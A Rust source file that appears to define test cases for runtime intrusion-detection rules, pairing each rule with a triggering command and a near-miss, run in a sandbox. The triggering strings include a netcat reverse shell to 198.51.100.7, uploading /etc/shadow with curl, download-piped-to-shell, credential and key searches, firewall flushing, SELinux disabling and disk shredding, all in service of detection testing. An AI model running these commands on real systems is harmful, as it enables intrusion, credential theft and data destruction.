//! What is performed: one row for each rule, and the rules that cannot be performed, with the reason.
//!
//! A script is read by a shell in a namespace of its own, where everything that it touches is a copy. `as NAME WORDS`
//! does what `perform.c` has a word for, under that name; `run NAME ARGUMENTS` is a program of that name that does
//! nothing. A near miss differs in the one thing that the rule is about.

use Where::{Container, Host};

/// Which world a rule is about.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Where {
    /// As the rules are written: here no process is in a container.
    Host,
    /// The rules with every condition about containers taken as true.
    Container,
}

/// A rule, what it looks for, and what it must not take for that.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Row {
    pub(crate) rule: &'static str,
    pub(crate) world: Where,
    pub(crate) hit: &'static str,
    pub(crate) miss: &'static str,
}

const fn row(rule: &'static str, world: Where, hit: &'static str, miss: &'static str) -> Row {
    Row { rule, world, hit, miss }
}

/// An address far away that the namespace has for itself.
macro_rules! far {
    ($before:literal, $after:literal) => {
        concat!($before, " 198.51.100.7 ", $after)
    };
}

/// The rules of `upstream-rules`.
pub(crate) const UPSTREAM: &[Row] = &[
    // First, because it takes longest: a server that is older than five seconds.
    row(
        "Read sensitive file trusted after startup",
        Host,
        "as nginx aged 5300 open r /etc/shadow",
        "as nginx open r /etc/shadow",
    ),
    row(
        "Directory traversal monitored file read",
        Host,
        "as reader open r /etc/../etc/../etc/hostname",
        "as reader open r /etc/hostname",
    ),
    row(
        "Read sensitive file untrusted",
        Host,
        "as reader open r /etc/shadow",
        "as sshd open r /etc/shadow",
    ),
    row("Run shell untrusted", Host, "as nginx spawn bash", "as reader spawn bash"),
    row("System user interactive", Host, "as sshd become 1 spawn id", "as sshd spawn id"),
    row(
        "Terminal shell in container",
        Container,
        "as runc terminal exec sh",
        "as runc terminal exec id",
    ),
    row(
        "Netcat Remote Code Execution in Container",
        Container,
        "run nc -e /bin/sh 198.51.100.7 9",
        "run nc 198.51.100.7 9",
    ),
    row("Search Private Keys or Passwords", Host, "run find / -name id_rsa", "run find / -name id"),
    row(
        "Clear Log Activities",
        Host,
        "as cleaner open wt /var/log/syslog",
        "as cleaner open wa /var/log/syslog",
    ),
    row("Remove Bulk Data from Disk", Host, "run shred /dev/sdz", "run rm /dev/sdz"),
    row(
        "Create Symlink Over Sensitive Files",
        Host,
        "as maker symlink /etc/shadow /tmp/link",
        "as maker symlink /etc/shadows /tmp/link",
    ),
    row(
        "Create Hardlink Over Sensitive Files",
        Host,
        "as maker link /etc/shadow /etc/link",
        "as maker link /etc/hostname /etc/link",
    ),
    row(
        "Packet socket created in container",
        Container,
        "as sniffer socket packet",
        "as sniffer socket inet",
    ),
    row(
        "Redirect STDOUT/STDIN to Network Connection in Container",
        Container,
        far!("as backdoor redirect 1", "4444"),
        far!("as backdoor redirect 17", "4444"),
    ),
    row(
        "Linux Kernel Module Injection Detected",
        Container,
        "as loader module",
        "as parent become 1 spawn-as loader module",
    ),
    row("Debugfs Launched in Privileged Container", Container, "run debugfs", "run tune2fs"),
    row(
        "Detect release_agent File Container Escapes",
        Container,
        "as escape open wc /tmp/release_agent",
        "as escape open wc /tmp/release_agents",
    ),
    row("PTRACE attached to process", Host, "as tracer trace attach", "as tracer trace continue"),
    row("PTRACE anti-debug attempt", Host, "as tracer trace traceme", "as tracer trace attach"),
    row("Find AWS Credentials", Host, "run grep -r aws_access_key_id /", "run grep -r key /"),
    row(
        "Execution from /dev/shm",
        Host,
        "cp /mnt/perform /dev/shm/x; /dev/shm/x",
        "cp /mnt/perform /tmp/x; /tmp/x",
    ),
    row(
        "Drop and execute new binary in container",
        Container,
        "overlay; cp /mnt/perform merged/above; merged/above",
        "overlay; merged/below",
    ),
    row(
        "Disallowed SSH Connection Non Standard Port",
        Host,
        far!("as ssh connect tcp", "443"),
        far!("as ssh connect tcp", "22"),
    ),
    row("Fileless execution via memfd_create", Host, "as dropper memfd x", "as dropper spawn x"),
    row(
        "Modify Shell Configuration File",
        Host,
        "as writer open wa /root/.bashrc",
        "as writer open r /root/.bashrc",
    ),
    row(
        "Schedule Cron Jobs",
        Host,
        "as writer open wc /etc/cron.d/job",
        "as writer open wc /etc/cro.d",
    ),
    row(
        "Read ssh information",
        Host,
        "as reader open r /root/.ssh/id_rsa",
        "as ssh open r /root/.ssh/id_rsa",
    ),
    row("DB program spawned process", Host, "as mysqld spawn id", "as mysqld spawn mysqld"),
    row("Change thread namespace", Host, "as enterer setns", "as nsenter setns"),
    row(
        "Change namespace privileges via unshare",
        Container,
        "as parent become 1 spawn-as maker unshare user",
        "as maker unshare uts",
    ),
    row("Launch Privileged Container", Container, "as runc newpid exec init", "as runc spawn init"),
    row(
        "Launch Excessively Capable Container",
        Container,
        "as runc newpid exec init",
        "as runc newpid become 1 exec init",
    ),
    row(
        "System procs network activity",
        Host,
        far!("as sort connect tcp", "9000"),
        far!("as client connect tcp", "9000"),
    ),
    row(
        "Program run with disallowed http proxy env",
        Host,
        "export HTTP_PROXY=http://198.51.100.7; run curl x",
        "export HTTP_PROX=http://198.51.100.7; run curl x",
    ),
    row(
        "Unexpected UDP Traffic",
        Host,
        far!("as client connect udp", "5555"),
        far!("as client connect udp", "53"),
    ),
    row("Non sudo setuid", Host, "as changer become 1 setuid 1", "as changer setuid 0"),
    row("User mgmt binaries", Host, "run useradd eve", "run useradd -D"),
    row(
        "Create files below dev",
        Host,
        "as writer open wc /dev/hidden",
        "as writer open wc /dev/shm/seen",
    ),
    row(
        "Contact EC2 Instance Metadata Service From Container",
        Container,
        "as client connect tcp 169.254.169.254 80",
        "as client connect tcp 169.254.169.253 80",
    ),
    row(
        "Contact cloud metadata service from container",
        Container,
        "as client connect tcp 169.254.169.254 80",
        "as client connect tcp 169.254.169.253 80",
    ),
    row(
        "Launch Package Management Process in Container",
        Container,
        "run apt-get update",
        "run apt-got update",
    ),
    row("Launch Suspicious Network Tool in Container", Container, "run nmap x", "run nmaps x"),
    row("Launch Suspicious Network Tool on Host", Host, "run nmap x", "run nmaps x"),
    row(
        "Delete or rename shell history",
        Host,
        "as cleaner unlink /root/.bash_history",
        "as cleaner unlink /root/.bashrc",
    ),
    row(
        "Set Setuid or Setgid bit",
        Host,
        "as changer chmod 4755 /tmp/file",
        "as changer chmod 755 /tmp/file",
    ),
    row("Launch Remote File Copy Tools in Container", Container, "run rsync x y", "run syncr x y"),
    row(
        "Mount Launched in Privileged Container",
        Container,
        "run mount /dev/sdz /x",
        "run mount -l",
    ),
    row(
        "Launch Ingress Remote File Copy Tools in Container",
        Container,
        "run wget http://x",
        "run curl http://x",
    ),
    row(
        "Read environment variable from /proc files",
        Container,
        "as reader open r /proc/1/environ",
        "as reader open r /proc/1/status",
    ),
    row(
        "Exfiltrating Artifacts via Kubernetes Control Plane",
        Container,
        "as runc spawn-as tar open r /tmp/file",
        "as runc spawn-as tar open r /etc/hostname",
    ),
    row(
        "Adding ssh keys to authorized_keys",
        Host,
        "as writer open wc /root/.ssh/authorized_keys",
        "as writer open wc /root/.ssh/known_hosts",
    ),
    row(
        "Potential Local Privilege Escalation via Environment Variables Misuse",
        Host,
        "export GLIBC_TUNABLES=glibc.malloc.check=0; run id",
        "export GLIBC_TUNABLE=glibc.malloc.check=0; run id",
    ),
    row(
        "Backdoored library loaded into SSHD (CVE-2024-3094)",
        Host,
        "as sshd open rc /tmp/liblzma.so.5.6.0",
        "as sshd open rc /tmp/liblzma.so.5.6.2",
    ),
    row("BPF Program Not Profiled", Host, "as loader bpf program", "as loader bpf map"),
];

/// Our own rules.
pub(crate) const OURS: &[Row] = &[
    row(
        "Program run from a shared temporary directory",
        Host,
        "cp /mnt/perform /tmp/x; /tmp/x",
        "cp /mnt/perform /root/x; /root/x",
    ),
    row("Program run from memory only", Host, "as dropper memfd x", "as runc memfd x"),
    row(
        "Program added to a running container was run",
        Host,
        "overlay; cp /mnt/perform merged/above; merged/above",
        "overlay; merged/below",
    ),
    row("Shell started by a network service", Host, "as nginx spawn sh", "as nginx spawn id"),
    row(
        "Decoded text piped to an interpreter",
        Host,
        "run sh -c 'echo dHJ1ZQ== | base64 -d | sh'",
        "run sh -c 'echo dHJ1ZQ== | base64 -d'",
    ),
    row("Kernel module loaded by hand", Host, "run insmod x.ko", "run depmod"),
    row(
        "Search for credentials with a file search tool",
        Host,
        "run find / -name id_ed25519",
        "run find / -name id",
    ),
    row(
        "Password store read by an unusual program",
        Host,
        // by another name, which does not help
        "ln -s /etc/shadow innocent; as reader open r /tmp/innocent",
        "as passwd open r /etc/shadow",
    ),
    row(
        "Private key read by an unusual program",
        Host,
        "as reader open r /root/.ssh/id_rsa",
        "as reader open r /root/.ssh/id_rsa.pub",
    ),
    row(
        "Login key list changed",
        Host,
        "as writer open wc /root/.ssh/authorized_keys",
        "as writer open rc /root/.ssh/authorized_keys",
    ),
    row(
        "Start-up configuration changed",
        Host,
        "as writer open wc /etc/cron.d/job",
        "as crontab open wc /etc/cron.d/job",
    ),
    row(
        "System program replaced",
        Host,
        "as writer open wc /usr/local/bin/ls",
        "as dpkg open wc /usr/local/bin/ls",
    ),
    row(
        "Log emptied",
        Host,
        "as cleaner open wt /var/log/syslog",
        "as logrotate open wt /var/log/syslog",
    ),
    row(
        "Shell opened a network connection",
        Host,
        far!("as bash connect tcp", "9000"),
        far!("as bash connect tcp", "53"),
    ),
    row(
        "Cloud metadata service contacted",
        Host,
        "as client connect tcp 169.254.169.254 80",
        "as aws connect tcp 169.254.169.254 80",
    ),
    row(
        "Connection to a mining pool port",
        Host,
        far!("as miner connect tcp", "3333"),
        "as miner connect tcp 10.1.2.3 3333",
    ),
    row("Process attached to with ptrace", Host, "as tracer trace attach", "as gdb trace attach"),
    row("Memory of another process written", Host, "as writer write-memory", "as gdb write-memory"),
    row(
        "File system mounted in a container",
        Container,
        "as mounter mount /tmp",
        "as runc mount /tmp",
    ),
    row("Namespace of another process entered", Container, "as enterer setns", "as runc setns"),
    row(
        "Namespaces made by an ordinary user",
        Host,
        "as maker become 1 unshare user",
        "as maker unshare user",
    ),
    row(
        "Rights of a file opened to run as its owner",
        Host,
        "as changer chmod 4755 /tmp/file",
        "as dpkg chmod 4755 /tmp/file",
    ),
    row(
        "Shell history removed or disabled",
        Host,
        "run rm /root/.bash_history",
        "run rm /root/.bashrc",
    ),
    row("Data destroyed in bulk", Host, "run dd if=x of=/dev/sdz", "run dd if=x of=/dev/null"),
    row("Security module or audit switched off", Host, "run setenforce 0", "run setenforce 1"),
    row("Firewall rules dropped", Host, "run iptables -F", "run iptables -L"),
    row("Logging daemon stopped", Host, "run systemctl stop rsyslog", "run systemctl stop x"),
    row(
        "Network tool used to carry a shell",
        Host,
        "run socat x exec:sh",
        "run socat x tcp:localhost:1",
    ),
    row(
        "Interpreter given a network program on its command line",
        Host,
        "run python3 -c 'import socket'",
        "run python3 -c 'import os'",
    ),
    row("Download piped to a shell", Host, "run sh -c 'curl x | sh'", "run sh -c 'curl x | wc'"),
    row(
        "Download tool run in a container",
        Container,
        "as bash spawn curl http://x",
        "as other spawn curl http://x",
    ),
    row("Package management run in a container", Container, "run apk add x", "run apk info x"),
    row(
        "Interactive shell in a container",
        Container,
        "as runc terminal exec sh",
        "as runc spawn sh",
    ),
    row(
        "Container runtime socket used by an unusual program",
        Host,
        "as client unix /tmp/docker.sock",
        "as docker unix /tmp/docker.sock",
    ),
    row("Account added or changed by hand", Host, "run useradd eve", "as dpkg spawn useradd eve"),
    row(
        "Account list changed by an unusual program",
        Host,
        "as writer open wa /etc/passwd",
        "as useradd open wa /etc/passwd",
    ),
    row(
        "Login configuration changed",
        Host,
        "as writer open wc /etc/pam.d/login",
        "as writer open rc /etc/pam.d/login",
    ),
    row(
        "Shell profile of a user changed",
        Host,
        "as writer open wa /root/.bashrc",
        "as vim open wa /root/.bashrc",
    ),
    row(
        "Program library path injected",
        Host,
        "export LD_PRELOAD=/tmp/x.so; run id",
        "export LD_PRELOADS=/tmp/x.so; run id",
    ),
    row(
        "Hidden program run",
        Host,
        "cp /mnt/perform /tmp/.x; /tmp/.x",
        "cp /mnt/perform /tmp/x; /tmp/x",
    ),
    row(
        "Program run that was deleted from disk",
        Host,
        "as dropper deleted /root/gone",
        "cp /mnt/perform /root/there; /root/there",
    ),
    row(
        "Credentials of the cluster read",
        Host,
        "as cat open rc /var/run/secrets/kubernetes.io/serviceaccount/token",
        "as app open rc /var/run/secrets/kubernetes.io/serviceaccount/token",
    ),
    row(
        "Memory of a process read through its file",
        Host,
        "as reader open r /proc/1/mem",
        "as reader open r /proc/self/mem",
    ),
    row(
        "Host explored in a burst of tools",
        Host,
        "as nginx spawn whoami",
        "as other spawn whoami",
    ),
    row("Network scanned", Host, "run masscan x", "run mascan x"),
    row(
        "Archive of a home or of configuration made",
        Host,
        "run tar c /root/.ssh",
        "run tar c /srv",
    ),
    row(
        "Data sent out with a copy tool",
        Host,
        "run curl -T /etc/shadow http://x",
        "run curl -T /etc/hostname http://x",
    ),
    row("Mining program run", Host, "run xmrig", "run rig"),
    row("Tunnel or proxy tool run", Host, "run ssh -R 1:x:1 y", "run ssh y"),
    row(
        "Program of the kernel's virtual machine loaded",
        Host,
        "as loader bpf program",
        "as loader bpf map",
    ),
];

/// Rules that cannot be performed, and why.
pub(crate) const NOT_PERFORMED: &[(&str, &str)] = &[
    (
        "Contact K8S API Server From Container",
        "compares with the address of a cluster's own name, which no name service here has",
    ),
    (
        "Network Connection outside Local Subnet",
        "applies to the name spaces of an empty list, so it never matches before somebody fills it",
    ),
    (
        "Kernel module loaded by a system call",
        "asks for success, and a test loads no module into the kernel it runs on",
    ),
];
